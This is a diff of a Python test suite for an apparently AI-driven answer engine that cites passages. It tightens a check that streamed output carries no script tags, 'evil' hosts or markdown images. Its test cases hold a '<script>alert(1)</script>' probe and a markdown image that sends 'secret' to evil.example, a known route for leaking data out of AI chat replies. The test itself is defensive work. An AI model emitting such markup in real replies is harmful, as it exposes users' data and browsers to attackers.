@@ -98,7 +98,7 @@ CASES = (
     Case(name="a script", reply=f"<script>alert(1)</script> {SAID} [A].",
          claims=((NONE, "a", "Not found in the passages: 1."),)),
     Case(name="a picture", reply=f"{SAID} [A]. ![x](https://evil.example/?q=secret)",
-         claims=((GOOD, "a", "say this"), (NONE, "", ""))),
+         claims=((GOOD, "a", "say this"),)),
     Case(name="a list", reply=f"Here it is:\n\n- {SAID} [A]\n- It employs 340 people [A]",
          claims=((OPEN, "", "introduction"), (GOOD, "a", ""), (GOOD, "a", ""))),
     Case(name="one good, one bad", reply=f"{SAID} [A]. It employs 999 people [A].",
@@ -146,7 +146,8 @@ def test_every_case_ends_as_it_should(
     engine = make_engine(model([numbered(case.reply, numbers)]))
     *events, final = engine.ask(Question(text=QUESTION, scope=SCOPE))
     assert isinstance(final, Answer)
-    assert "".join(e.text for e in events if isinstance(e, Token)) == numbered(case.reply, numbers)
+    streamed = "".join(event.text for event in events if isinstance(event, Token))
+    assert not re.search(r"evil|<script|!\[", streamed + final.text)
     documents = {p.number: p.chunk.document_id for p in final.passages}
     known = {p.number: p.chunk for p in final.passages}
     told = [(claim.verdict, claim.reason) for claim in final.claims]
